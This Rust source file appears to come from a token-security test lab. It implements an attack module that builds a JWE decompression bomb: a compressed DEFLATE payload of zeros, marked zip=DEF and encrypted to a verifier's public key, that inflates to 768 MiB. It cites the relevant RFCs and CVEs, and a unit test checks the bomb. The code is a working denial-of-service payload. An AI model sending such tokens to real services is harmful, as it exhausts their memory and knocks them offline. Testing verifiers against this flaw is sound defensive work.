//! The decompression bomb: a short token that unfolds into a long one.
//!
//! The flawed assumption: what is inside is about as long as what arrived. A JWE
//! may be compressed before it is encrypted (`zip`, RFC 7516 §4.1.3), and DEFLATE
//! makes a thousand bytes of one. Whoever can encrypt to the verifier can send a
//! bomb, and to a public key that is everybody. The draft that revises RFC 8725
//! demands a limit (§2.12, §3.15). Bitten: npm jose (CVE-2024-28176), PyPI
//! python-jose (CVE-2024-33664) and jwcrypto (CVE-2024-28102), go-jose
//! (CVE-2024-28180), jose4j (GHSA-3677-xxcr-wjqv).
//!
//! Nothing else here compresses: not a JWS, not PASETO, not Biscuit.

use std::sync::OnceLock;

use flate2::{Compress, Compression, FlushCompress};
use rsa::RsaPublicKey;
use rsa::pkcs8::DecodePublicKey;
use serde_json::{Map, Value};
use tokenlab_harness::exchange::PublicKey;
use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::card::AttackProfile;
use crate::desk::Draft;
use crate::given::Given;
use crate::jwe::{self, Recipient};
use crate::mint::{self, MintError, Signature};
use crate::notebook::Notebook;
use crate::scheme::{KeyManagement, Scheme};
use crate::weakness::Weakness;

pub(super) struct JweZipBomb;

static PROFILE: AttackProfile = AttackProfile {
    id: "jwe-zip-bomb",
    title: "Encrypted token that inflates a thousandfold",
    assumption: "What is inside a token is about as long as what arrived.",
    class: AttackClass::Encryption,
    given: &[Given::IssuerSigns(
        "Where the key is shared: one of the services that have it is hers, and encrypts what she likes.",
    )],
    isolated: true,
    breaks: &[Weakness::UnlimitedInflation],
    references: &[
        (
            "RFC 7516 §4.1.3",
            "zip says that the content was compressed before it was encrypted.",
        ),
        (
            "RFC 8725 §3.6",
            "Compression is better left alone: its length tells of what was compressed.",
        ),
        (
            "draft-ietf-oauth-rfc8725bis §2.12",
            "A small token may inflate into more than the verifier has memory for.",
        ),
        (
            "draft-ietf-oauth-rfc8725bis §3.15",
            "Inflation has a limit, 250 kilobytes for instance, and stops there.",
        ),
        (
            "CVE-2024-28176",
            "npm jose before 2.0.7 and 4.15.5, fixed in these.",
        ),
        ("CVE-2024-33664", "PyPI python-jose before 3.4.0, fixed in 3.4.0."),
        (
            "CVE-2024-28102",
            "PyPI jwcrypto before 1.5.6, which limits the compressed length; 1.5.7 limits what it inflates to.",
        ),
        (
            "CVE-2024-28180",
            "Go go-jose before 2.6.3, 3.0.3 and 4.0.1, fixed in these.",
        ),
        (
            "GHSA-3677-xxcr-wjqv",
            "Maven jose4j before 0.9.6, fixed in 0.9.6.",
        ),
    ],
    lesson: include_str!("../../lessons/jwe-zip-bomb.md"),
};

const VARIANT: &str = "inflates-to-768-mebibytes";

impl Attack for JweZipBomb {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        notes.variant_step(
            VARIANT,
            format!("Compresses {INFLATED_MIB} MiB of zeros by DEFLATE."),
            format!("{} bytes", bomb()?.len()),
        );
        let why = match view.scheme() {
            Scheme::Jwe(alg, _) => return Ok(vec![Forgery::new(VARIANT, encrypted(view, alg, notes)?)]),
            Scheme::Jwt(_) => "a JWS is not compressed: zip is a member of JWE headers only",
            Scheme::Paseto(..) => "PASETO compresses nothing, in any version",
            Scheme::Biscuit => "a biscuit is not compressed",
            Scheme::Session(_) => "the id of a session unfolds into nothing",
        };
        let mut tried = vec![Forgery::analogue(
            VARIANT,
            to_the_issuers_rsa_key(view, notes)?,
            "a compressed JWE under the RSA key that the issuer publishes stands where the token belongs",
        )];
        if let Scheme::Jwt(_) = view.scheme() {
            tried.push(deflated_payload(view, notes)?);
        }
        Err(CannotForge::Inexpressible {
            why: why.into(),
            tried,
        })
    }
}

/// Encrypted to the target: by anybody if its key is public, else by a service
/// that shares the key. Where the lab can't write the header, to another key.
fn encrypted(
    view: &AttackerView<'_>,
    alg: KeyManagement,
    notes: &mut Notebook,
) -> Result<String, CannotForge> {
    let recipient = match (alg, view.public_key()) {
        (KeyManagement::RsaOaep, Some(PublicKey::Rsa(key))) => Recipient::RsaOaep(Box::new(key.clone())),
        (KeyManagement::RsaOaep256, Some(PublicKey::Rsa(key))) => {
            Recipient::RsaOaep256(Box::new(key.clone()))
        }
        (_, Some(_)) => return to_the_issuers_rsa_key(view, notes),
        (_, None) => {
            let draft = Draft {
                header: zip(),
                payload: bomb()?.to_vec(),
                ..Draft::default()
            };
            return match view.issued(&draft) {
                Ok(token) => {
                    notes.variant_step(
                        VARIANT,
                        "Has a service that shares the key encrypt it, with zip in the header.",
                        Value::Object(zip()).to_string(),
                    );
                    Ok(token)
                }
                Err(_) => to_the_issuers_rsa_key(view, notes),
            };
        }
    };
    notes.variant_step(
        VARIANT,
        "Encrypts it to the verifier's public key, which everybody has, with zip in the header.",
        Value::Object(zip()).to_string(),
    );
    Ok(jwe::seal(&recipient, &zip(), bomb()?)?)
}

fn to_the_issuers_rsa_key(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<String, CannotForge> {
    let public = RsaPublicKey::from_public_key_pem(&view.issuer().rsa_pem)
        .map_err(|error| CannotForge::Failed(error.to_string()))?;
    notes.variant_step(
        VARIANT,
        "Encrypts it to the RSA key that the issuer publishes, with zip in the header.",
        Value::Object(zip()).to_string(),
    );
    Ok(jwe::seal(
        &Recipient::RsaOaep256(Box::new(public)),
        &zip(),
        bomb()?,
    )?)
}

/// A JWS whose payload is compressed. Its signature is that of her own token:
/// who reads the payload first would inflate it first.
fn deflated_payload(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Forgery, CannotForge> {
    let variant = "deflated-payload";
    let mut header = view.sample_header();
    header.extend(zip());
    let header = Value::Object(header).to_string();
    notes.variant_step(
        variant,
        "Puts zip into the header of her own token, and the compressed zeros into its payload.",
        header.as_str(),
    );
    let signature = view.sample().rsplit('.').next().unwrap_or_default();
    let token = mint::jws_of(&header, bomb()?, &Signature::Copied(signature.into()))?;
    Ok(Forgery::analogue(
        variant,
        token,
        "a JWS has no zip; a verifier that knew it would inflate before it verifies",
    ))
}

fn zip() -> Map<String, Value> {
    Map::from_iter([("zip".to_owned(), Value::from("DEF"))])
}

/// The compressed zeros: one block of a mebibyte, again and again, and an end
/// (RFC 1951 §3.2). The block refers to nothing before it.
fn bomb() -> Result<&'static [u8], MintError> {
    static BOMB: OnceLock<Result<Vec<u8>, MintError>> = OnceLock::new();
    let made = BOMB.get_or_init(|| {
        let zeros = vec![0; 1 << 20];
        let mut block = Vec::with_capacity(1 << 16);
        Compress::new(Compression::best(), false)
            .compress_vec(&zeros, &mut block, FlushCompress::Full)
            .map_err(MintError::new)?;
        let mut stream = block.repeat(INFLATED_MIB);
        stream.extend(EMPTY_LAST_BLOCK);
        Ok(stream)
    });
    match made {
        Ok(stream) => Ok(stream),
        Err(error) => Err(error.clone()),
    }
}

const INFLATED_MIB: usize = 768;

/// The last block, with fixed codes, and nothing in it but its end.
const EMPTY_LAST_BLOCK: [u8; 2] = [0x03, 0x00];

#[cfg(test)]
mod tests {
    use std::io::Read;

    use flate2::read::DeflateDecoder;

    use super::*;

    #[test]
    fn the_bomb_is_a_stream_of_zeros_with_an_end() {
        let bomb = bomb().unwrap();
        assert!(bomb.len() < INFLATED_MIB * 1100, "{}", bomb.len());
        let mut inflater = DeflateDecoder::new(bomb);
        let mut chunk = vec![1; 1 << 16];
        let mut total = 0;
        loop {
            let read = inflater.read(&mut chunk).unwrap();
            if read == 0 {
                break;
            }
            assert!(chunk[..read].iter().all(|byte| *byte == 0));
            total += read;
        }
        assert_eq!(total, INFLATED_MIB << 20);
    }
}
